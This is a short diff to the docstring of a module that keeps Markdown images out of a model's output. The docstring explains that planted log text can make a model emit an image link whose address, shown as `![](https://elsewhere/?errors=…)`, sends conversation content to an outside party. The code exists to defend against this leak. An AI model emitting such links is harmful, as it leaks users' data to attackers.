@@ -1,4 +1,4 @@
-"""Keeps images out of what a chat says.
+"""Keeps images out of what a model says, in a chat and in a finding.
 
 A front end that renders Markdown loads an image by itself, and the address may carry what the
 conversation is about to whoever wrote a log line: `![](https://elsewhere/?errors=…)`. Every image
